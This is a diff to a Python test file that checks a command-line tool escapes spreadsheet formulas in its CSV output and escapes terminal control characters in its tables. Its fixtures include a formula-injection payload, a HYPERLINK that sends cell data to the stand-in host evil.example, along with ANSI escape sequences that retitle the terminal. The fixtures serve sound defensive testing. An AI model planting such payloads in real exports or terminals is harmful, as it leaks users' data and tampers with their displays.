@@ -22,8 +22,8 @@ Result = subprocess.CompletedProcess[str]
 RunCli = Callable[..., Result]
 
 TEAM = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
-OWNER = "Bob\x1b[31mRED\x1b]0;owned\x07"
-TEXT = "+1+2\n@SUM(A1)"
+OWNER = "-Bob"
+TEXT = "+1+2\n@SUM(A1) \x1b[31mRED\x1b]0;owned\x07"
 
 
 def _ok(result: Result) -> str:
@@ -55,7 +55,8 @@ def test_actions_csv_escapes_formulas_as_export_csv_does(
     (row,) = _rows(out)
     assert row["team"] == "'" + TEAM
     assert row["text"] == "'" + TEXT
-    assert row["owner"] == OWNER  # data through a pipe stays exactly as stored
+    assert row["owner"] == "'" + OWNER
+    assert "\x1b[31mRED" in row["text"]  # data through a pipe stays exactly as stored
     assert row["audit_id"] == hostile_audit
     assert int(row["working_days_left"]) > 0  # numbers stay bare numbers
     assert out.startswith('"id","audit_id"')
@@ -83,10 +84,10 @@ def test_tables_show_control_characters_escaped_and_markup_as_typed(
     for args in (("actions",), ("audit", "list"), ("audit", "show", hostile_audit)):
         out = _ok(run_cli(*args))
         assert "\x1b" not in out and "\x07" not in out, args
-    assert "Bob\\x1b[31MRED" in _ok(run_cli("actions")).replace("m", "M")
+    assert "\\x1b[31mRED" in _ok(run_cli("actions", "--format", "table"))
     assert "[/x]" in _ok(run_cli("audit", "list"))
     shown = _ok(run_cli("audit", "show", hostile_audit))
-    assert "Bob\\x1b[31mRED\\x1b]0;owned\\x07" in shown
+    assert "-Bob: +1+2" in shown and "@SUM(A1) \\x1b[31mRED\\x1b]0;owned\\x07" in shown
 
 
 def test_a_refusal_naming_a_hostile_value_prints_it_escaped(run_cli: RunCli) -> None:
